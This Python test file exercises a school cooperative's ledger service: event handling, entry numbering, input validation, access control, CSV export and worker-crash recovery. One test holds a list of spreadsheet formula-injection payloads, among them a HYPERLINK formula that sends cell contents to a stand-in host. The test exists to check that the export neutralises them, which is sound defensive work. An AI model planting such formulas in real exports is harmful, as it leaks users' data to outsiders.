"""The ledger service (docs/ledger.md) over HTTP and as the consumer of ``adhesion.validated``, on
SQLite and on PostgreSQL, with the real Redis broker and a real Celery worker process."""
import csv
import io
import threading

import pytest
from celery import Celery
from sqlalchemy import func, select

from contracts import adhesion as adhesion_events
from services.ledger.app import create_app
from services.ledger.handlers import on_adhesion_validated
from services.ledger.models import AdhesionProposal, Book, Entry, ProcessedEvent
from services.ledger.yearend import DEFAULT_CHART
from shared.auth import Principal
from shared.service import shutdown
from tests.quiet import quiet
from tests.support import Worker, bearer_for, env_for, prepared_app, test_settings, wait_for

NUMBER = "0382296P00"
OTHER = "0380001A00"
YEAR = "2025-2026"
BOOK = f"/api/ledger/books/{NUMBER}/{YEAR}"


def bearer(**principal):
    return bearer_for(Principal(**principal))


SCHOOL = bearer(login=NUMBER, role="school", department="38", cooperative=NUMBER)
INTRUDER = bearer(login=OTHER, role="school", department="38", cooperative=OTHER)
STAFF = bearer(login="admin", role="staff", department="38")
STAFF_69 = bearer(login="admin69", role="staff", department="69")


def validated(version=1, insurance=True, goods="0.00", goods_value="0.00", amount_paid=None, number=NUMBER,
              department="38", methods=("cheque",), code="26/0001 A") -> dict:
    """An ``adhesion.validated`` envelope as services/adhesion/events.py writes it."""
    insurance_amount = "43.75" if insurance else "0.00"
    goods = goods if insurance else "0.00"
    total = f"{395.50 + float(insurance_amount) + float(goods):.2f}"
    return adhesion_events.VALIDATED.build({
        "cooperative": {"number": number, "name": "Coopérative Scolaire de l'École Élémentaire Jean Moulin",
                        "town": "VIENNE", "email": "ce.0382296p@ac-grenoble.fr", "department": department},
        "department": {"code": department, "name": "OCCE de l'Isère", "insurer": "MAE – MAIF", "insurer_contract": ""},
        "year": YEAR, "revision": 3, "registration_code": code, "version": version,
        "validated_at": "2025-09-20T10:00:00+00:00",
        "totals": {"teachers": 10, "students": 165, "cooperators": 175},
        "amounts": {"membership": "395.50", "insurance": insurance_amount, "goods": goods, "instruments": "0.00",
                    "total": total},
        "amount_paid": amount_paid or total, "insurance": insurance, "goods_value": goods_value,
        "instruments_value": "0.00", "payment_methods": list(methods),
    }).to_dict()


@pytest.fixture
def app(make_app, database_url):
    return make_app(create_app, database_url)


@pytest.fixture
def client(app):
    return app.test_client()


def deliver(app, envelope) -> bool:
    with app.app_context():
        return on_adhesion_validated(envelope)


def count(app, model) -> int:
    with app.extensions["service"].database.session() as session:
        return session.scalar(select(func.count()).select_from(model))


def write_adhesion(client, headers=SCHOOL, **body):
    body = {"date": "2025-09-25", "account": "bank", "method": "cheque", "cheque_number": "1234567",
            "voucher": "PJ 12", **body}
    return client.post(f"{BOOK}/adhesion-entry", headers=headers, json=body)


def test_the_guide_example_proposed_written_once_and_balanced(app, client):
    assert client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).status_code == 404  # before validation
    empty = client.get(BOOK, headers=SCHOOL)
    assert empty.status_code == 200 and empty.json["empty"] is True and empty.json["entries"] == []
    assert empty.json["opening"] == {"bank": "0.00", "cash": "0.00"}

    assert deliver(app, validated()) is True
    proposal = client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json
    assert proposal["amount"] == "439.25"
    assert [(a["category"], a["amount"]) for a in proposal["allocations"]] == [
        ("62810008", "395.50"), ("61681008", "43.75")]
    assert proposal["method"] == "cheque" and proposal["account"] == "bank"
    assert proposal["label"] == "Adhésion et assurance OCCE 2025 - 2026 (code 26/0001 A)"
    assert proposal["first_entry"] is True and proposal["written"] is False and proposal["piece"] is None
    assert client.get(f"{BOOK}/adhesion-entry", headers=STAFF).json == proposal

    assert client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "1200.00", "cash": "0.00"}).status_code == 200
    written = write_adhesion(client)
    assert written.status_code == 201, written.json
    entry = written.json
    assert entry["piece"] == "D01" and entry["amount"] == "439.25" and entry["direction"] == "expense"
    assert entry["date"] == "2025-09-25" and entry["cheque_number"] == "1234567" and entry["voucher"] == "PJ 12"
    assert entry["label"] == "Adhésion et assurance OCCE 2025 - 2026 (code 26/0001 A)"
    assert [(a["category"], a["label"], a["amount"]) for a in entry["allocations"]] == [
        ("62810008", "Cotisations versées à l'OCCE", "395.50"), ("61681008", "Assurance", "43.75")]

    again = write_adhesion(client, cheque_number="7654321")
    assert again.status_code == 409 and again.json["piece"] == "D01"
    book = client.get(BOOK, headers=SCHOOL).json
    assert book["empty"] is False and [e["piece"] for e in book["entries"]] == ["D01"]
    assert book["balance"] == {"bank": "760.75", "cash": "0.00"}
    after = client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json
    assert after["written"] is True and after["piece"] == "D01" and after["first_entry"] is False

    # a re-validation after it was written never writes it twice nor changes the proposal
    assert deliver(app, validated(version=2, amount_paid="500.00")) is True
    assert client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json["amount"] == "439.25"
    assert count(app, Entry) == 1


def test_no_insurance_and_declared_goods(app, client):
    deliver(app, validated(insurance=False, methods=("transfer",)))
    proposal = client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json
    assert proposal["amount"] == "395.50" and proposal["method"] == "transfer"
    assert [(a["category"], a["amount"]) for a in proposal["allocations"]] == [("62810008", "395.50")]

    # re-validated with 5 000 € of goods: (5 000 − 2 000) × 0,00688 = 20,64 € on the insurance account
    deliver(app, validated(version=2, goods="20.64", goods_value="5000.00"))
    proposal = client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json
    assert proposal["amount"] == "459.89"
    assert [(a["category"], a["amount"]) for a in proposal["allocations"]] == [
        ("62810008", "395.50"), ("61681008", "64.39")]  # 43,75 + 20,64
    # an older validation arriving late changes nothing
    deliver(app, validated(version=1, insurance=False))
    assert client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json["amount"] == "459.89"
    assert count(app, AdhesionProposal) == 1


def test_a_redelivered_event_proposes_nothing_twice(app, client):
    envelope = validated()
    assert deliver(app, envelope) is True
    assert deliver(app, envelope) is False
    assert count(app, AdhesionProposal) == 1 and count(app, ProcessedEvent) == 1
    write_adhesion(client)
    # the same event delivered again, and a new event of the same validation: still one entry
    assert deliver(app, envelope) is False
    assert deliver(app, validated()) is True
    assert count(app, AdhesionProposal) == 1 and count(app, Entry) == 1
    assert write_adhesion(client).status_code == 409


def entry(**change):
    return {"date": "2025-10-02", "label": "Sortie au musée", "direction": "expense", "account": "bank",
            "method": "cheque", "cheque_number": "1234568", "voucher": "F-2025-114", "amount": "120.00",
            "allocations": [{"category": "62810008", "amount": "120.00"}], **change}


def test_entries_are_numbered_and_balanced_per_account(app, client):
    assert client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "1200.00", "cash": "35.50"}).status_code == 200
    answers = [client.post(f"{BOOK}/entries", headers=SCHOOL, json=body) for body in (
        entry(),
        entry(direction="income", account="cash", method="cash", label="Vente de gâteaux", amount="42.30",
              allocations=[{"category": "61681008", "amount": "40.00"}, {"category": "62810008", "amount": "2.30"}]),
        entry(amount="0.01", allocations=[{"category": "61681008", "amount": "0.01"}]),
    )]
    assert [a.status_code for a in answers] == [201, 201, 201], [a.json for a in answers]
    assert [a.json["piece"] for a in answers] == ["D01", "R01", "D02"]
    book = client.get(BOOK, headers=STAFF).json
    assert book["opening"] == {"bank": "1200.00", "cash": "35.50"}
    assert book["balance"] == {"bank": "1079.99", "cash": "77.80"}
    assert [e["piece"] for e in book["entries"]] == ["D01", "R01", "D02"]
    assert book["exercise"] == {"start": "2025-09-01", "end": "2026-08-31"}
    # now the book is not empty: the adhesion entry is no longer the first
    deliver(app, validated())
    assert client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json["first_entry"] is False
    assert write_adhesion(client).json["piece"] == "D03"


def test_bad_input_is_422_naming_the_field_and_writes_nothing(app, client):
    cases = [
        ({"allocations": [{"category": "62810008", "amount": "100.00"}]}, "allocations"),
        ({"allocations": [{"category": "62810008", "amount": "100.00"}, {"category": "61681008", "amount": "20.01"}]},
         "allocations"),
        ({"allocations": []}, "allocations"),
        ({"allocations": [{"category": "99999999", "amount": "120.00"}]}, "allocations"),
        ({"allocations": [{"category": "60000000", "amount": "120.00"}]}, "allocations"),  # well formed, not in chart
        ({"allocations": [{"category": "62810008", "amount": "120.00", "extra": 1}]}, "allocations"),
        ({"date": "2025-08-31"}, "date"),
        ({"date": "2026-09-01"}, "date"),
        ({"date": "31/08/2026"}, "date"),
        ({"amount": "0"}, "amount"),
        ({"amount": "12.345"}, "amount"),
        ({"amount": "1e400"}, "amount"),
        ({"direction": "sideways"}, "direction"),
        ({"account": "livret"}, "account"),
        ({"method": "bitcoin"}, "method"),
        ({"label": "   "}, "label"),
        ({"label": "x" * 201}, "label"),
        ({"voucher": "x" * 31}, "voucher"),
        ({"label": "A\x00B"}, "label"),
        ({"piece": "D07"}, "piece"),
    ]
    for change, field in cases:
        response = client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(**change))
        assert response.status_code == 422, (change, response.json)
        assert set(response.json) == {"error", "message", "fields"}
        assert field in response.json["fields"], (change, response.json)
    assert "inconnu" in str(client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(
        allocations=[{"category": "60000000", "amount": "120.00"}])).json["fields"])
    assert client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "abc", "cash": "0"}).status_code == 422
    assert client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "1.00"}).json["fields"] == {
        "cash": ["Champ obligatoire."]}
    assert client.post(f"/api/ledger/books/0382296p00/{YEAR}/entries", headers=SCHOOL, json=entry()).status_code == 400
    assert client.get(f"/api/ledger/books/{NUMBER}/2025-2027", headers=SCHOOL).status_code == 400
    assert count(app, Entry) == 0 and count(app, Book) == 0
    # the adhesion entry: a date outside the exercise is refused, nothing written
    deliver(app, validated())
    refused = write_adhesion(client, date="2026-09-01")
    assert refused.status_code == 422 and "date" in refused.json["fields"]
    bad_method = write_adhesion(client, method="bitcoin")
    assert bad_method.status_code == 422 and list(bad_method.json["fields"]) == ["method"]
    assert bad_method.json["fields"]["method"][0].startswith("Valeur attendue parmi")
    assert count(app, Entry) == 0
    assert write_adhesion(client).status_code == 201


def test_access_rules(app, client):
    deliver(app, validated())
    assert client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "1200.00", "cash": "0.00"}).status_code == 200
    # a school never sees nor writes another cooperative's book
    for method, path, body in (("get", BOOK, None), ("get", f"{BOOK}/adhesion-entry", None),
                               ("get", f"{BOOK}/export.csv", None),
                               ("put", f"{BOOK}/opening", {"bank": "0.00", "cash": "0.00"}),
                               ("post", f"{BOOK}/entries", entry()), ("post", f"{BOOK}/adhesion-entry", {})):
        assert getattr(client, method)(path, headers=INTRUDER, json=body).status_code == 403, path
        # staff of the department read only; another department's staff see nothing
        expected_staff = 200 if method == "get" else 403
        assert getattr(client, method)(path, headers=STAFF, json=body).status_code == expected_staff, path
        assert getattr(client, method)(path, headers=STAFF_69, json=body).status_code == 403, path
        assert getattr(client, method)(path, json=body).status_code == 401, path
    assert client.get(BOOK, headers=STAFF).json["opening"]["bank"] == "1200.00"
    assert count(app, Entry) == 0
    # the intruder's own book is theirs
    assert client.get(f"/api/ledger/books/{OTHER}/{YEAR}", headers=INTRUDER).json["empty"] is True


def test_categories_department_chart(app, client):
    items = client.get("/api/ledger/categories", headers=SCHOOL).json["items"]
    # OCCE's default chart for a new department: its charges and produits, the two accounts
    # of the adhesion entry among them (services/ledger/yearend.py DEFAULT_CHART)
    assert {(c["code"], c["label"]) for c in items} == set(DEFAULT_CHART)
    assert {("62810008", "Cotisations versées à l'OCCE"), ("61681008", "Assurance")} <= set(DEFAULT_CHART)
    assert client.post("/api/ledger/categories", headers=SCHOOL, json={"code": "70800000", "label": "Ventes"}
                       ).status_code == 403
    added = client.post("/api/ledger/categories", headers=STAFF, json={"code": "70800000", "label": "Ventes"})
    assert added.status_code == 201 and added.json["department"] == "38"
    assert client.post("/api/ledger/categories", headers=STAFF, json={"code": "70800000", "label": "X"}
                       ).status_code == 409
    assert client.post("/api/ledger/categories", headers=STAFF, json={"code": "62810008", "label": "X"}
                       ).status_code == 409
    assert client.post("/api/ledger/categories", headers=STAFF, json={"code": "7080 000", "label": "X"}
                       ).json["fields"].keys() == {"code"}
    assert "70800000" in {c["code"] for c in client.get("/api/ledger/categories", headers=SCHOOL).json["items"]}
    assert "70800000" not in {c["code"] for c in client.get("/api/ledger/categories", headers=STAFF_69).json["items"]}
    assert client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(
        direction="income", allocations=[{"category": "70800000", "amount": "120.00"}])).status_code == 201
    school_69 = bearer(login="0690001A00", role="school", department="69", cooperative="0690001A00")
    refused = client.post(f"/api/ledger/books/0690001A00/{YEAR}/entries", headers=school_69, json=entry(
        direction="income", allocations=[{"category": "70800000", "amount": "120.00"}]))
    assert refused.status_code == 422 and "allocations" in refused.json["fields"]


def test_csv_export(app, client):
    deliver(app, validated())
    client.put(f"{BOOK}/opening", headers=SCHOOL, json={"bank": "1200.00", "cash": "0.00"})
    write_adhesion(client)
    response = client.get(f"{BOOK}/export.csv", headers=STAFF)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert f"cahier-de-comptes-{NUMBER}-{YEAR}.csv" in response.headers["Content-Disposition"]
    assert response.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[2][:7] == ["25/09/2025", "D01", "Adhésion et assurance OCCE 2025 - 2026 (code 26/0001 A)", "chèque",
                           "1234567", "PJ 12", "439,25"]
    assert rows[-1][7] == "760,75"


HOSTILE = ['=HYPERLINK("http://exemple.invalid/?"&A1;"Sortie")', "+1+1", "@SUM(1)", "-2+3"]


def test_csv_export_is_formula_safe_and_amounts_stay_numbers(app, client):
    """A school's label, cheque number or voucher reaches staff's Excel: each one that a
    spreadsheet would evaluate starts with ' (shared/csv_export.py); the amounts the export
    writes stay numbers, a negative balance included."""
    for n, text in enumerate(HOSTILE):
        response = client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(
            label=text, cheque_number=text[:20], voucher=text[:30], amount=f"{n + 1}.50",
            allocations=[{"category": "62810008", "amount": f"{n + 1}.50"}]))
        assert response.status_code == 201, response.json
    response = client.get(f"{BOOK}/export.csv", headers=STAFF)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    written = rows[2:-1]
    assert [row[2] for row in written] == ["'" + text for text in HOSTILE]
    assert [row[4] for row in written] == ["'" + text[:20] for text in HOSTILE]
    assert [row[5] for row in written] == ["'" + text[:30] for text in HOSTILE]
    assert [row[6] for row in written] == ["1,50", "2,50", "3,50", "4,50"]  # bank expense
    assert [row[10] for row in written] == ["1,50", "2,50", "3,50", "4,50"]  # 62810008
    assert rows[-1][2] == "Solde" and rows[-1][7] == "-12,00"  # no opening balance: a negative number


def test_health_and_openapi(client):
    assert client.get("/api/ledger/health").json["status"] == "ok"
    spec = client.get("/api/ledger/openapi.json").json
    assert spec["openapi"].startswith("3.")
    for path in ("/api/ledger/books/{number}/{year}", "/api/ledger/books/{number}/{year}/opening",
                 "/api/ledger/books/{number}/{year}/entries", "/api/ledger/books/{number}/{year}/adhesion-entry",
                 "/api/ledger/books/{number}/{year}/export.csv", "/api/ledger/categories"):
        assert path in spec["paths"], path


SLOW_LEDGER = "tests.workers.slow_ledger"  # the consumer pauses inside its transaction


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_the_consumer_survives_its_worker_killed_mid_task(tmp_path, database_url, redis_url):
    """A real worker process takes the event, is SIGKILLed inside the transaction; nothing is
    committed, the broker hands the task out again, a new worker proposes the entry once."""
    settings = test_settings(tmp_path, database_url, broker_url=redis_url, broker_visibility_timeout=5)
    app = prepared_app(create_app, settings)
    env = env_for(settings, TEST_CONSUME_DELAY_SECONDS="4")
    sender = Celery(broker=redis_url)
    try:
        worker = Worker("ledger", env, app=SLOW_LEDGER).start()
        sender.send_task("ledger.on_adhesion_validated", args=[validated()], queue="ledger")
        wait_for(lambda: "proposing the adhesion entry" in worker.log(), timeout=60, what="the worker to take it")
        worker.kill()
        assert count(app, AdhesionProposal) == 0 and count(app, ProcessedEvent) == 0
        second = Worker("ledger", env, app=SLOW_LEDGER).start()
        try:
            wait_for(lambda: count(app, AdhesionProposal) == 1, timeout=90, what="the re-delivered task")
            quiet(settings, beyond_visibility=True, services=("ledger",))  # no second delivery is still to come
            assert count(app, AdhesionProposal) == 1 and count(app, ProcessedEvent) == 1
            client = app.test_client()
            assert client.get(f"{BOOK}/adhesion-entry", headers=SCHOOL).json["amount"] == "439.25"
        finally:
            second.stop()
    finally:
        sender.close()
        shutdown(app)


def test_concurrent_entries_get_distinct_pieces(app):
    """Ten entries posted at once on a book not yet created: D01…D10, no gap, no duplicate."""
    answers = []

    def post(i):
        client = app.test_client()
        answers.append(client.post(f"{BOOK}/entries", headers=SCHOOL, json=entry(label=f"Achat {i}")))

    threads = [threading.Thread(target=post, args=(i,)) for i in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert sorted(a.status_code for a in answers) == [201] * 10, [a.json for a in answers]
    assert sorted(a.json["piece"] for a in answers) == [f"D{n:02d}" for n in range(1, 11)]
    assert count(app, Book) == 1


def test_the_ledger_subscribes_through_its_handlers_alone(app, client):
    """No line of shared/ names the ledger: the relay finds it through its handlers' @consumer,
    and the contract's own example is what it reads."""
    from shared.events import subscribers

    assert "ledger.on_adhesion_validated" in subscribers()["adhesion.validated"]
    example = adhesion_events.VALIDATED.example
    assert deliver(app, adhesion_events.VALIDATED.build(example).to_dict()) is True
    proposal = client.get(f"/api/ledger/books/{example['cooperative']['number']}/{example['year']}/adhesion-entry",
                          headers=SCHOOL).json
    assert (proposal["amount"], proposal["method"]) == ("439.25", "cheque")
